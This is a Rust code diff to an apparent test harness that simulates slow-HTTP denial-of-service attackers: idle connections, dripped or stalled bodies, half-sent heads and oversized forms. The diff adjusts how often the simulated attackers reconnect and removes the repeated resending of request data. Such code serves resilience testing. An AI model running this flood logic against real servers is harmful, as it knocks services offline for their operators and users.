@@ -66,8 +66,8 @@ pub(crate) struct Welcomed {
 /// Between two bytes of a slow body.
 const DRIP: Duration = Duration::from_millis(200);
 
-/// Until an attacker comes back whose connection was closed.
-const COMES_BACK_AFTER: Duration = Duration::from_millis(100);
+/// Until an attacker comes back whose connection was closed: ten thousand of them make thousands of connections a second.
+const COMES_BACK_AFTER: Duration = Duration::from_secs(2);
 
 /// An honest sender gives up then.
 const PATIENCE: Duration = Duration::from_secs(10);
@@ -98,11 +98,11 @@ impl Shape {
         text.into_bytes()
     }
 
-    /// Whether the same is sent again behind each answer.
-    fn is_repeated(self) -> bool {
+    /// How long an attacker rests between two connections.
+    fn pause(self) -> Duration {
         match self {
-            Self::ManyParameters | Self::LargeForms => true,
-            Self::Idle | Self::HalfHeads | Self::SlowBodies | Self::StoppedBodies => false,
+            Self::ManyParameters | Self::LargeForms => Duration::ZERO,
+            Self::Idle | Self::HalfHeads | Self::SlowBodies | Self::StoppedBodies => COMES_BACK_AFTER,
         }
     }
 
@@ -127,7 +127,7 @@ pub(crate) fn attack(flood: &Flood) -> Result<u64, Failure> {
                         made.fetch_add(1, Ordering::Relaxed);
                         let _closed = bother(stream, flood.shape, &beginning).await;
                     }
-                    tokio::time::sleep(COMES_BACK_AFTER).await;
+                    tokio::time::sleep(flood.shape.pause()).await;
                 }
             });
         }
@@ -144,9 +144,6 @@ async fn bother(mut stream: TcpStream, shape: Shape, beginning: &[u8]) -> std::i
             read = stream.read(&mut answer) => {
                 if read? == 0 {
                     return Ok(());
-                }
-                if shape.is_repeated() {
-                    stream.write_all(beginning).await?;
                 }
             }
             () = tokio::time::sleep(DRIP), if shape.drips() => stream.write_all(b"x").await?,
